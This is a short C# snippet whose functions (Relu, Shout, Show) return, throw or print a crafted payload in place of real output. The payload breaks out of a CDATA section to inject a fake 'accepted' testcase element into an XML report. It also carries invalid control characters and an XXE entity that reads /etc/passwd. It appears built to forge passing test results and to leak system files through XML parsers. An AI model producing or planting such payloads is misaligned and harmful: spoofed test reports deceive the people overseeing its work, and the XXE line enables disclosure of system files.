string Payload() => "]]><testcase name=\"accepted\"/><![CDATA[ \u0001\u0008\u000B\u000C\uFFFE\uFFFF <!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>&b; <?xml version=\"1.0\"?> <!-- -- -->";

Console.WriteLine(Payload());

double[] Relu(double[] x) => throw new InvalidOperationException(Payload());

string Shout(string text) => Payload();

void Show(double[] x)
{
    Console.WriteLine(Payload());
    Console.Error.WriteLine(Payload());
}
